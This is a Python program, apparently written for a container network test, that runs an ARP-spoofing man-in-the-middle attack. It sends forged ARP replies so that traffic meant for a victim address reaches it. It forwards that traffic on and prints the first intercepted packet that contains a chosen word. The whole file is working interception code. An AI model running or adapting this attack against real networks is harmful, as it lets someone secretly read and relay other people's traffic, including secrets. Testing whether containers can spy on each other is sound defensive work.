"""A hostile container's program, `VICTIM SENDER WORD`: answer for the victim's address, and read what is sent to it.

Its forged ARP replies (RFC 826) tell the sender that the victim's IPv4 address is at its own hardware address. It
forwards all packets for the victim, and prints the first one with the word in it. It exits with 1 if the kernel
refuses raw packets, and with 2 if no such packet came in time.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from pathlib import Path

SECONDS = 15.0
REPLY_EVERY_SECONDS = 0.2
ARP, IPV4, REPLY = 0x0806, 0x0800, 2
HEADER_BYTES = 14
HARDWARE_BYTES = 6
DESTINATION_ADDRESS = slice(30, 34)


def hardware_address(address: str) -> bytes:
    """Return the hardware address of a neighbor; the kernel asks for it where a packet is sent there."""
    deadline = time.monotonic() + SECONDS
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        while time.monotonic() < deadline:
            probe.sendto(b"", (address, 9))
            for line in Path("/proc/net/arp").read_text().splitlines()[1:]:
                fields = line.split()
                if fields[0] == address and fields[2] != "0x0":
                    return bytes.fromhex(fields[3].replace(":", ""))
            time.sleep(0.02)
    raise SystemExit(f"{address} has no hardware address")


def interface_to(address: str) -> str:
    """Return the interface of the network that an address is on."""
    for line in Path("/proc/net/arp").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[0] == address:
            return fields[5]
    raise SystemExit(f"no interface leads to {address}")


def forged_reply(own: bytes, victim: str, receiver: bytes, receiver_address: str) -> bytes:
    """Return the frame which says that the victim's address is at `own`."""
    head = receiver + own + struct.pack("!H", ARP)
    form = struct.pack("!HHBBH", 1, IPV4, HARDWARE_BYTES, 4, REPLY)
    return head + form + own + socket.inet_aton(victim) + receiver + socket.inet_aton(receiver_address)


def intercept(victim: str, sender: str, word: bytes) -> bytes:
    """Return the first packet to the victim that has the word in it; empty if none comes."""
    true_victim, true_sender = hardware_address(victim), hardware_address(sender)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(IPV4)) as raw:
        raw.bind((interface_to(victim), IPV4))
        raw.settimeout(REPLY_EVERY_SECONDS)
        own: bytes = raw.getsockname()[4]
        forged = forged_reply(own, victim, true_sender, sender)
        deadline, last = time.monotonic() + SECONDS, 0.0
        while (now := time.monotonic()) < deadline:
            if now - last >= REPLY_EVERY_SECONDS:
                raw.send(forged)
                last = now
            try:
                frame = raw.recv(65_536)
            except TimeoutError:
                continue
            if frame[:HARDWARE_BYTES] != own or frame[DESTINATION_ADDRESS] != socket.inet_aton(victim):
                continue
            if word in frame:
                return frame
            raw.send(true_victim + own + frame[2 * HARDWARE_BYTES :])
    return b""


def main() -> int:
    """Return the exit code."""
    victim, sender, word = sys.argv[1:]
    try:
        packet = intercept(victim, sender, word.encode())
    except PermissionError as error:
        print(error)
        return 1
    print(packet[HEADER_BYTES:].decode("latin-1"))
    return 0 if packet else 2


if __name__ == "__main__":
    raise SystemExit(main())
